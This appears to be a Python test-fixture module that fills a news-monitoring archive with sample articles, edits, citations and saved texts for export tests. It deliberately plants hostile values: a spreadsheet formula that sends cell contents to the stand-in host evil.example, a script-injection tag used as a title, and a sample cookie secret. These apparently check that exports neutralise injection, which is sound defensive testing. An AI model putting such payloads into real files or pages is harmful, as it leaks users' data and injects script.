"""A small archive to export from, filled by hand: saved texts, articles with edits, a source, and hostile words."""

import gzip
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, NoReturn

from sqlalchemy import Connection

from monitor.app.context import Context, Seams
from monitor.app.corpus import import_corpus
from monitor.core.outlets import Registry
from monitor.edges.clock import FixedClock
from monitor.model import Change, ChangeKind, Citation, CitationKind, Document, DocumentState, Entry
from monitor.settings import Settings
from monitor.store import changes, citations, documents, entries, revisions, sources
from monitor.store.database import Database
from tests.blank import blank_sqlite
from tests.store.examples import a_document, a_revision, a_source

NOON = datetime(2026, 11, 16, 12, tzinfo=UTC)
SAVED = "The ferry is back\n\nPort Sereno, 14 November. The first ferry in nine years left on Saturday.\n"
LINES = '{"text": "One of many texts in one file.", "title": "Uno"}\n{"text": "Another one of them.", "title": "Dos"}\n'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
MARKUP = "<script>alert(1)</script>"


def never() -> NoReturn:
    """Open no edge."""
    raise AssertionError("no edge is used here")


@contextmanager
def opened(folder: Path, url: str | None = None) -> Iterator[Context]:
    """Open an archive in a folder, empty unless there is one already."""
    folder.mkdir(exist_ok=True)
    db = Database.open(url or f"sqlite:///{blank_sqlite(folder / 'archive.db')}", patience_s=5.0)
    settings = Settings.model_validate({"data_dir": folder})
    yield Context(settings, db, FixedClock(NOON), Registry(), "test", Seams(never, never, never))
    db.close()


async def fill(ctx: Context, count: int = 5) -> None:
    """Fill an archive: a source, articles of which the first was edited, and with a folder of them saved texts."""
    await ctx.db.write(_fill, count)


async def save(ctx: Context, folder: Path) -> None:
    """Import saved texts: one of its own, and two in one file."""
    _write(folder)
    await import_corpus(ctx, folder, dry_run=False, progress=None)


def _write(folder: Path) -> None:
    folder.mkdir()
    (folder / "ferry.txt").write_text(SAVED, encoding="utf-8")
    (folder / "many.jsonl").write_text(LINES, encoding="utf-8")


def _fill(conn: Connection, count: int) -> None:
    feed, _ = sources.add(conn, a_source(title="Radio", headers=("Cookie: secret=hunter2",), outlet="radio.example"))
    for number in range(count):
        one = add(conn, f"http://radio.example/{number}", f"Ferry number {number}", source_id=feed.id)
        entry = Entry(feed.id, f"key-{number}", one.url or "", title=MARKUP, document_id=one.id)
        entries.add(conn, entry, NOON)
    edit(conn, 1, "Ferry number 0 sails", "The ferry sails twice a week.", NOON + timedelta(hours=1))


def add(conn: Connection, /, url: str, title: str, text: str = "The ferry sails.", **values: object) -> Document:
    """Add an article with its first text."""
    wanted = a_document(
        url, None, state=DocumentState.LIVE, title=title, outlet="radio.example", language="en", **values
    )
    one, _ = documents.add(conn, wanted)
    revisions.add(conn, a_revision(one.id, text, title, byline=FORMULA, language="en"))
    found = documents.get(conn, one.id)
    assert found is not None
    return found


def edit(conn: Connection, document_id: int, title: str, text: str, at: datetime) -> int:
    """Give a document a new text; return the number of the change."""
    new = revisions.add(conn, a_revision(document_id, text, title, at=at))
    step = Change(
        *(ChangeKind.BOTH, at),
        document_id=document_id,
        from_revision=new.number - 1,
        to_revision=new.number,
        words_added=3,
        significance=0.5,
        reason=FORMULA,
    )
    return changes.add(conn, step)


def redact(conn: Connection, document_id: int) -> None:
    """Say that a document was redacted, as the state does that every export asks for."""
    documents.set_fields(conn, document_id, state=DocumentState.REDACTED, state_reason="asked for")


def cite(conn: Connection, document_id: int, revision_id: int) -> None:
    """Let a text cite an outlet."""
    cited = Citation(CitationKind.MENTION, "Radio", 0, 5, 0.9, outlet="radio.example")
    citations.add(conn, revision_id, [replace(cited, document_id=document_id)])


def lines_of(path: Path) -> list[dict[str, Any]]:
    """Return the lines of a JSONL file."""
    data = path.read_bytes()
    data = gzip.decompress(data) if path.suffix == ".gz" else data
    return [json.loads(line) for line in data.decode().split("\n") if line]


def names_in(folder: Path, pattern: str = "*") -> list[str]:
    """Return what lies in a folder."""
    return sorted(path.name for path in folder.glob(pattern))
